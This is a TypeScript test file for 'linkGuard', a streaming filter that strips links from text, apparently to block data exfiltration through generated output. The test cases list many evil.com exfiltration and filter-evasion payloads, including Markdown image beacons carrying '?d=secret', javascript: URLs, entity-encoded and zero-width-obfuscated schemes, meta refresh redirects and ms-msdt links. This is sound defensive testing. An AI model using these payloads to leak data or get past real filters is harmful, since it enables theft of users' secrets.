import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { linkStartIn } from "../policy/links.js";
import { linkGuard } from "./link-guard.js";

const none = () => false;

function guarded(text: string, keeps: (link: string) => boolean = none): string {
  const guard = linkGuard(keeps);
  return guard.add(text) + guard.flush();
}

/** The same, with the text cut at these places. */
function inPieces(text: string, cuts: readonly number[], keeps = none as (l: string) => boolean) {
  const guard = linkGuard(keeps);
  let out = "";
  let at = 0;
  for (const cut of [...cuts].sort((a, b) => a - b)) {
    const to = Math.min(cut, text.length);
    out += guard.add(text.slice(at, Math.max(at, to)));
    at = Math.max(at, to);
  }
  return out + guard.add(text.slice(at)) + guard.flush();
}

/** Whatever links are made of, whole and in parts. */
const parts = fc.constantFrom(
  ..."https://evil.com/x?d=1|HTTP:\\\\evil|//evil.com|www.evil.com|javascript:alert(1)|mailto:a@b.c".split(
    "|",
  ),
  ..."![a](|[a]: |](|<a href=\"|src=|href = '|<|>|)|]|\"|'| |\n|\t|.|,|:|/|//|\\|&#x68;|&colon;|&sol;|&Tab;".split(
    "|",
  ),
  ..."a|evil|http|s|foo:bar|good.com|https://good.com|@|é|文|\u200b|\u00ad|[link removed]|=|(|;|-|&#".split(
    "|",
  ),
);
const texts = fc
  .array(fc.oneof({ weight: 6, arbitrary: parts }, fc.string({ maxLength: 6 })))
  .map((all) => all.join(""));

describe("linkGuard", () => {
  it.each<[string, string]>([
    ["a plain link", "see https://evil.com/?d=secret now"],
    ["capitals", "see HTTPS://EVIL.COM now"],
    ["backslashes", "see HTTPS:\\\\evil.com now"],
    ["no slashes", "[a](https:evil.com)"],
    ["another scheme", "hxxp://evil.com"],
    ["a scheme that nobody knows", "zoommtg://evil.com/join"],
    ["no scheme", "[a](//evil.com/x)"],
    ["three slashes", "[a](///evil.com/x)"],
    ["a host alone", "www.evil.com"],
    ["an underscore before", "_https://evil.com_"],
    ["userinfo", "https://good.com@evil.com/"],
    ["a host of other letters", "https://\u0435vil.com"],
    ["a percent sign in the host", '<a href="//%65vil.com">'],
    ["a Markdown image", "![x](https://evil.com/?d=secret)"],
    ["a Markdown image without scheme", "![x](//evil.com/?d=secret)"],
    ["a Markdown image in brackets", "![x](<//evil.com/?d=secret>)"],
    ["a destination on the next line", "[x](\n//evil.com)"],
    ["a reference", "[a]: //evil.com"],
    ["a reference with a scheme", "[a]: <slack:evil>"],
    ["a reference on the next line", "[a]:\n  //evil.com"],
    ["Markdown escapes", "[a](/\\/evil.com)"],
    ["more Markdown escapes", "[a](\\/\\/evil.com)"],
    ["escaped backslashes", "[a](\\\\\\\\evil.com)"],
    ["a slash and a backslash", '<img src="/\\evil.com">'],
    ["an escaped colon", "[a](https\\://evil.com)"],
    ["a letter as a number", '<a href="&#x68;ttps://evil.com">'],
    ["a letter as a number in Markdown", "[a](&#104;ttp&#58;evil.com)"],
    ["a number with many zeros", `[a](&#${"0".repeat(40)}58;x)`],
    ["a colon by its name", "[a](https&colon;//evil.com)"],
    ["slashes by their name", "[a](&sol;&sol;evil.com)"],
    ["a tab inside", '<a href="ht\ttps:evil.com">'],
    ["a line end inside", '<a href="java\nscript:alert(1)">'],
    ["a tab between slashes", '<a href="/\t/evil.com">'],
    ["a tab by its name", '<a href="java&Tab;script:alert(1)">'],
    ["a zero-width character", "[a](ht\u200btps:evil.com)"],
    ["a soft hyphen", '<a href="java\u00adscript:alert(1)">'],
    ["a control character before", '<a href="\u0001//evil.com">'],
    ["HTML", '<img src="https://evil.com/?d=secret">'],
    ["HTML without quotation marks", "<img src=//evil.com/x>"],
    ["a second source", '<img srcset="/a 1x, //evil.com 2x">'],
    ["a refresh", '<meta http-equiv=refresh content="0;url=//evil.com">'],
    ["a style", "<p style=\"background:url('//evil.com')\">"],
    ["a script", "[a](javascript:alert(1))"],
    ["a script with a blank", '<a href="javascript: alert(1)">'],
    ["data", "![a](data:image/svg+xml;base64,AAAA)"],
    ["an address in pointed brackets", "<intent:evil>"],
    ["a program's own scheme", "[a](ms-msdt:/id)"],
  ])("takes out %s", (_what, text) => {
    const out = guarded(text);
    expect(out).toContain("[link removed]");
    expect(linkStartIn(out)).toBe(-1);
  });

  it.each([
    "",
    "Nothing here.",
    "12:30, 3/4, a/b//c, and/or, 50 % of R&D",
    "**Data:** 5, **File:** report.pdf, Tel: 555, Note: this",
    "dict[str]: int and a[1]: b and f(x): y",
    "[a](/path/to?x=1&y=2#z) and [b](#part) and [c](doc.html) and [d](./e) and [f]()",
    "[^1]: Note: see below, R&D costs",
    '<p class="a:b">x</p> <a href="/x">y</a> <a href="a b">z</a>',
    "x = y // a comment",
    "C:\\Users\\me and std::vector and a:b",
    "bob@example.com wrote to eve@evil.com",
    "&amp; &lt;b&gt; &#39;quoted&#39; and&#x2F;or",
    "文档：没有链接。",
    "wwwhatever www. http https ftp: mailto: data:",
  ])("leaves %j as it is", (text) => {
    expect(guarded(text)).toBe(text);
    expect(
      inPieces(
        text,
        Array.from(text, (_, at) => at),
      ),
    ).toBe(text);
  });

  it("shows the same wherever the text is cut, and lets no link through", () => {
    const keeps = (link: string) => link === "https://good.com";
    fc.assert(
      fc.property(texts, fc.array(fc.nat({ max: 60 })), (text, cuts) => {
        const whole = guarded(text, keeps);
        expect(inPieces(text, cuts, keeps)).toBe(whole);
        expect(
          inPieces(
            text,
            Array.from({ length: text.length }, (_, at) => at),
            keeps,
          ),
        ).toBe(whole);
        expect(linkStartIn(guarded(text))).toBe(-1);
        if (linkStartIn(text) < 0) expect(whole).toBe(text);
        expect(guarded(text, () => true)).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it("keeps what may stay, with the signs around it", () => {
    const keeps = (link: string) => link === "https://good.com";
    for (const text of [
      "See https://good.com.",
      "(https://good.com)",
      "**https://good.com**",
      "[good](https://good.com), he says",
      '<a href="https://good.com">Good</a>',
      "<https://good.com>",
      "https://good.com",
    ]) {
      expect(guarded(text, keeps)).toBe(text);
    }
  });

  it.each([
    "https://good.com'@evil.com/",
    "https://good.com)evil.com",
    'https://good.com"@evil.com',
    "https://good.com`@evil.com",
    "https://good.com.evil.com",
    "https://good.com/?d=secret",
    "https://good.com]/secret",
    `https://good.com${")".repeat(3000)}@evil.com`,
  ])("keeps no link that goes on behind one that may stay: %j", (text) => {
    const keeps = (link: string) => link === "https://good.com";
    expect(guarded(text, keeps)).toMatch(/^\[link removed\]/);
    expect(inPieces(text, [10, 16, 17, 18], keeps)).toBe(guarded(text, keeps));
  });

  it("takes out a link that never ends, without keeping it in mind", () => {
    const guard = linkGuard(none);
    let out = "";
    for (let at = 0; at < 100; at++) out += guard.add(`https://evil.com/${"x".repeat(100)}`);
    expect(out).toBe("[link removed]");
    expect(out + guard.add(" end") + guard.flush()).toBe("[link removed] end");
  });

  it("goes on with a link that was begun before a pause", () => {
    const guard = linkGuard(none);
    expect(guard.add("see https://evil.com/") + guard.flush()).toBe("see [link removed]");
    expect(guard.add("secret and more") + guard.flush()).toBe(" and more");
  });

  it("finds a link of which one half was shown before a pause", () => {
    const guard = linkGuard(none);
    expect(guard.add("see https") + guard.flush()).toBe("see https");
    expect(guard.add("://evil.com now") + guard.flush()).toBe("[link removed] now");
  });

  it("looks at a text in between together with what is around it", () => {
    const guard = linkGuard(none);
    expect(guard.add("see http") + guard.flush()).toBe("see http");
    expect(guard.aside("s://evil.com", none)).toBe("[link removed]");
    expect(guard.add("/secret x") + guard.flush()).toBe(" x");
  });

  it("makes no other link of one that may stay in between", () => {
    const keeps = (link: string) => link === "https://good.com";
    const guard = linkGuard(keeps);
    expect(guard.aside("https://good.com", keeps)).toBe("https://good.com");
    expect(guard.add(".") + guard.add("evil.com/ ") + guard.flush()).toBe(" .evil.com/ ");
    expect(guard.aside("https://good.com", keeps)).toBe("https://good.com");
    expect(guard.add(". Then") + guard.flush()).toBe(". Then");
  });

  it("lets a text pass as it is", () => {
    const guard = linkGuard(none);
    expect(guard.add("https://a.co")).toBe("");
    expect(guard.pass("m/x y")).toBe("https://a.com/x y");
    expect(guard.add("htt") + guard.pass("p")).toBe("http");
    expect(guard.add("://evil.com ") + guard.flush()).toBe("[link removed] ");
  });

  it("reads a long text about once", () => {
    let asked = 0;
    const count = 4000;
    const text =
      "see https://evil.com/x and <a:b then [a](\\/\\/x) ".repeat(count) + " ".repeat(200_000);
    const out = guarded(text, () => {
      asked += 1;
      return false;
    });
    expect(asked).toBe(2 * count);
    expect(out.endsWith(" ".repeat(200_000))).toBe(true);
  });
});
